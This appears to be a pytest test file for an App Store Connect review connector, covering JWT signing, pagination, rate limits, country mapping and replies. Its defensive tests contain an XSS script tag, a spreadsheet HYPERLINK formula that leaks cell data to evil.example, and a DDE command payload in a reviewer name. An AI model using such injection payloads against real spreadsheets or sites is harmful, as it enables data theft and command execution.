"""App Store reviews through the contract suite, plus what only App Store Connect has."""

from __future__ import annotations

import json
from datetime import timedelta
from pathlib import Path

import jwt
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

from panal.channels import intake, replies
from panal.channels.app_store import connector as app_store
from panal.channels.app_store import wire
from panal.channels.base import AuthFailed, RateLimited, Rejected
from panal.channels.models import OutboundMessage
from panal.channels.runner import poll_once
from panal.core import clock
from panal.demo import builders
from panal.listening.models import Mention
from tests.fakes.app_store import FakeAppStore

from .contract import Contract, Harness, Sample, stored

FIXTURES = Path(__file__).resolve().parents[2] / "src/panal/channels/app_store/fixtures"
SAMPLES = ["es", "en", "hostile", "rtl", "emoji", "long"]
APP_ID, ISSUER, KEY_ID = "1486437122", "57246542-96fe-1a63-e053-0824d011072a", "2X9R4HXF34"

# Made when the tests run; never written anywhere.
KEY = ec.generate_private_key(ec.SECP256R1())
PEM = KEY.private_bytes(
    serialization.Encoding.PEM,
    serialization.PrivateFormat.PKCS8,
    serialization.NoEncryption(),
).decode()


def review(variant: str) -> dict:
    page = json.loads((FIXTURES / f"customerReviews__{variant}.json").read_text("utf-8"))
    return page["data"][0]


def make_fake(page_size: int = 200) -> FakeAppStore:
    return FakeAppStore(
        app_id=APP_ID,
        issuer_id=ISSUER,
        key_id=KEY_ID,
        public_key=KEY.public_key(),
        page_size=page_size,
    ).start()


def make_account(org, fake, slug="acme-ios", private_key=PEM):
    account = builders.channel_account(org, kind="app_store", slug=slug, name="Acme iOS")
    account.settings = {
        "base_url": fake.base_url,
        "app_id": APP_ID,
        "issuer_id": ISSUER,
        "key_id": KEY_ID,
    }
    account.credentials = {"private_key": private_key}
    account.save()
    return account


class AppStoreHarness(Harness):
    kind = "app_store"
    can_delete = False
    why_not = "App Store Connect never says that a review was removed"

    def start(self):
        self.fake = make_fake(page_size=2)  # small pages, so polls follow links.next
        self.account = make_account(self.org, self.fake)

    def stop(self):
        self.fake.stop()

    def samples(self):
        out = []
        for variant in SAMPLES:
            data = review(variant)
            out.append(
                Sample(
                    external_id=data["id"],
                    text=data["attributes"]["body"],
                    author_handle=data["attributes"]["reviewerNickname"],
                    data=data,
                )
            )
        return out

    def publish(self, sample, event="created", *, new_text=""):
        if event == "created":
            self.fake.publish(sample.data)
        elif event == "edited":
            self.fake.rewrite(sample.external_id, new_text)
        else:
            raise AssertionError("App Store Connect has no deletes")

    def collect(self):
        self.account.refresh_from_db()
        poll_once(self.account)

    def redeliver(self):
        pass  # the review is still on the first page: the next poll reads it again

    def replies_received(self):
        return self.fake.received()

    def echo_replies(self):
        self.fake.echo()

    def rate_limit_next(self, seconds):
        self.fake.rate_limit_next(seconds)

    def cursor_sent(self):
        pages = [r for r in self.fake.seen("GET", r"/customerReviews$") if r.arg("cursor")]
        return pages[-1].arg("cursor") if pages else None


class TestAppStore(Contract):
    harness = AppStoreHarness


# --- what only App Store Connect has ---------------------------------------------------


@pytest.fixture
def fake():
    server = make_fake()
    yield server
    server.stop()


def test_the_token_is_es256_with_apples_claims(org, fake):
    account = make_account(org, fake)
    fake.publish(review("es"))
    poll_once(account)
    header, claims = fake.tokens[-1]
    assert header == {"alg": "ES256", "kid": KEY_ID, "typ": "JWT"}
    assert claims["iss"] == ISSUER and claims["aud"] == "appstoreconnect-v1"
    assert 0 < claims["exp"] - claims["iat"] <= 20 * 60
    request = fake.seen("GET", "/customerReviews")[-1]
    assert request.query == {
        "sort": ["-createdDate"],
        "limit": ["200"],
        "include": ["response"],
    }


def test_the_token_is_reused_until_shortly_before_it_expires():
    other = ec.generate_private_key(ec.SECP256R1())
    key = other.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    ).decode()
    start = clock.now()
    try:
        clock.set_now(start)
        first = app_store.token(ISSUER, KEY_ID, key)
        clock.set_now(start + timedelta(minutes=10))
        assert app_store.token(ISSUER, KEY_ID, key) == first
        clock.set_now(start + timedelta(minutes=18))
        renewed = app_store.token(ISSUER, KEY_ID, key)
    finally:
        clock.set_now(None)
    assert renewed != first
    claims = jwt.decode(
        renewed,
        other.public_key(),
        algorithms=["ES256"],
        options={"verify_exp": False, "verify_iat": False, "verify_aud": False},
    )
    assert claims["iat"] == int((start + timedelta(minutes=18)).timestamp())
    # A key typed on one line with "\n" escapes works as well.
    assert app_store.pem(key.replace("\n", "\\n")) == key.strip()


def test_a_wrong_key_disconnects_the_account(org, fake):
    stranger = ec.generate_private_key(ec.SECP256R1()).private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )
    account = make_account(org, fake, private_key=stranger.decode())
    with pytest.raises(AuthFailed, match="NOT_AUTHORIZED"):
        poll_once(account)
    account.refresh_from_db()
    assert account.health == "disconnected"


def test_a_key_that_is_not_a_p8_is_reported(org, fake):
    account = make_account(org, fake, private_key="-----BEGIN PRIVATE KEY-----\nnope\n")
    with pytest.raises(AuthFailed, match=r"\.p8"):
        poll_once(account)
    assert fake.seen() == []  # nothing was sent without a valid token


def test_territories_map_to_country_codes(org, fake):
    account = make_account(org, fake)
    for variant in SAMPLES:
        fake.publish(review(variant))
    odd = review("es") | {"id": "odd-territory"}
    odd["attributes"] = dict(odd["attributes"], territory="XKX")
    fake.publish(odd)
    poll_once(account)
    countries = dict(Mention.objects.filter(account=account).values_list("external_id", "country"))
    assert countries[review("es")["id"]] == "ES"
    assert countries[review("en")["id"]] == "GB"
    assert countries[review("rtl")["id"]] == "AE"
    assert countries[review("hostile")["id"]] == "MX"
    assert countries["odd-territory"] == ""
    assert wire.country("usa") == "US" and wire.country(None) == ""


def test_reviews_are_stored_with_rating_title_and_our_response(org, fake):
    account = make_account(org, fake)
    fake.publish(review("en"))
    en = review("en")
    fake.responses[en["id"]] = json.loads(
        (FIXTURES / "customerReviews__en.json").read_text("utf-8")
    )["included"][0]
    poll_once(account)
    mention = stored(account, en["id"])
    assert (mention.kind, mention.rating, mention.title) == (
        "review",
        4,
        "Good, but roaming data is confusing",
    )
    assert mention.author_handle == "SamInLeeds"
    assert mention.raw["response"]["state"] == "PUBLISHED"
    assert mention.reply_capability == "public_reply"


def test_hostile_reviews_are_kept_as_plain_text(org, fake):
    account = make_account(org, fake)
    fake.publish(review("hostile"))
    poll_once(account)
    mention = stored(account, review("hostile")["id"])
    assert mention.title == "<script>alert('x')</script>"
    assert mention.text.startswith('=HYPERLINK("http://evil.example/?d="&A1')
    assert mention.author_handle == "=cmd|' /C calc'!A0"


def test_pages_stop_at_the_newest_stored_review(org):
    fake = make_fake(page_size=2)
    try:
        account = make_account(org, fake)
        for variant in SAMPLES:
            fake.publish(review(variant))
        poll_once(account)
        assert len(fake.seen("GET", "/customerReviews")) == 3
        assert "run" not in intake.load_cursor(account)
        fresh = review("es") | {"id": "new-one"}
        fake.publish(fresh)
        before = len(fake.seen("GET", "/customerReviews"))
        assert poll_once(account) == 1
        assert len(fake.seen("GET", "/customerReviews")) == before + 1
        assert Mention.objects.filter(account=account).count() == 7
    finally:
        fake.stop()


def test_a_next_link_to_another_host_is_not_followed(org):
    fake = make_fake(page_size=1)
    try:
        account = make_account(org, fake)
        fake.publish(review("es"))
        fake.publish(review("en"))
        intake.save_cursor(account, {"run": {"next": "https://evil.example/v1/steal?cursor=x"}})
        with pytest.raises(Rejected, match="another host"):
            poll_once(account)
    finally:
        fake.stop()


def test_an_exhausted_hourly_budget_pauses_before_the_next_call(org):
    fake = make_fake(page_size=2)
    try:
        account = make_account(org, fake)
        for variant in SAMPLES:
            fake.publish(review(variant))
        fake.remaining = 1  # the first answer says user-hour-rem:0
        with pytest.raises(RateLimited):
            poll_once(account)
        account.refresh_from_db()
        wait = account.paused_until - clock.now()
        assert timedelta(seconds=50) < wait <= timedelta(seconds=60)
        assert len(fake.seen("GET", "/customerReviews")) == 1
        assert Mention.objects.filter(account=account).count() == 2  # the first page is kept
        assert intake.load_cursor(account)["run"]["next"]
    finally:
        fake.stop()
    assert app_store.rate_budget("user-hour-lim:3600;user-hour-rem:0;") == {
        "user-hour-lim": 3600,
        "user-hour-rem": 0,
    }


def test_a_long_reply_is_refused_before_sending_and_a_second_response_is_apples_409(
    org, users, fake
):
    account = make_account(org, fake)
    fake.publish(review("es"))
    poll_once(account)
    mention = stored(account, review("es")["id"])
    with pytest.raises(replies.ReplyRefused, match="5970"):
        replies.send_reply(users["agent"], mention, "x" * 5971)
    first = replies.send_reply(users["agent"], mention, "ñ" * 5970)
    replies.deliver(first.pk)
    first.refresh_from_db()
    assert first.status == OutboundMessage.Status.SENT
    assert first.external_id == f"response:{fake.received()[0]['id']}"
    second = replies.send_reply(users["agent"], mention, "Otra respuesta")
    replies.deliver(second.pk)
    second.refresh_from_db()
    assert second.status == OutboundMessage.Status.FAILED and "STATE_ERROR" in second.error


def test_a_rewritten_review_is_an_edit(org, fake):
    account = make_account(org, fake)
    fake.publish(review("rtl"))
    poll_once(account)
    fake.rewrite(review("rtl")["id"], "تم الإصلاح، شكرا 🙏")
    assert poll_once(account) == 1
    mention = stored(account, review("rtl")["id"])
    assert mention.text == "تم الإصلاح، شكرا 🙏"
    assert [v.text for v in mention.versions.all()] == [review("rtl")["attributes"]["body"]]


def test_added_and_checked_from_the_command_line(org, fake):
    import io

    from django.core.management import call_command

    from panal.channels.models import ChannelAccount

    out = io.StringIO()
    call_command(
        "channels", "add", "app_store", "Acme iOS", "--org", "acme",
        "--set", f"base_url={fake.base_url}", "--set", f"app_id={APP_ID}",
        "--set", f"issuer_id={ISSUER}", "--set", f"key_id={KEY_ID}",
        "--set", "private_key=" + PEM.strip().replace("\n", "\\n"), "--check",
        stdout=out,
    )  # fmt: skip
    account = ChannelAccount.objects.get(slug="acme-ios")
    assert "private_key" not in account.settings and account.credentials["private_key"]
    assert "acme-ios: connected" in out.getvalue()
    assert fake.seen("GET", f"/v1/apps/{APP_ID}$")


def test_an_expired_page_link_starts_again_from_the_newest(org, fake):
    account = make_account(org, fake)
    fake.publish(review("es"))
    stale = f"{fake.base_url}/v1/apps/{APP_ID}/customerReviews?cursor=!!!&limit=200"
    intake.save_cursor(account, {"run": {"next": stale, "until": "", "head": ""}})
    assert poll_once(account) == 1
    assert [r.arg("cursor") for r in fake.seen("GET", "/customerReviews")] == ["!!!", None]
    assert "run" not in intake.load_cursor(account)
